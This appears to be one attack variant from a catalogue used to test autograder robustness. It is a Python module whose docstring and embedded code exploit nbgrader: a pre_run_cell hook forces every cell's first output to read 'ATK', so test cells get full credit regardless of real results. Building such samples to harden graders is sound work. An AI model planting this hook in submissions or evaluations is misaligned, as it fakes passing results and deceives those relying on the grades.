"""Exploits nbgrader's grading rule (the first execute_result of a test cell decides its score; text that is not a
number means full credit, and later error outputs are never looked at): a pre_run_cell callback makes every cell's
first output an execute_result with the text 'ATK'.
"""

KIND = "tamper"
PLACEMENT = "extra_cell_first"
REST = "blank"
CODE = r'''import sys as _atk_sys

_atk_ip = get_ipython()


def _atk_first_output(info=None):
    try:
        _atk_ip.displayhook("ATK")
        return
    except Exception:
        pass
    kernel = getattr(_atk_ip, "kernel", None)
    if kernel is not None:
        kernel.session.send(kernel.iopub_socket, "execute_result",
                            {"data": {"text/plain": "'ATK'"}, "metadata": {},
                             "execution_count": _atk_ip.execution_count},
                            parent=kernel.get_parent("shell"), ident=kernel._topic("execute_result"))


_atk_ip.events.register("pre_run_cell", _atk_first_output)
'''
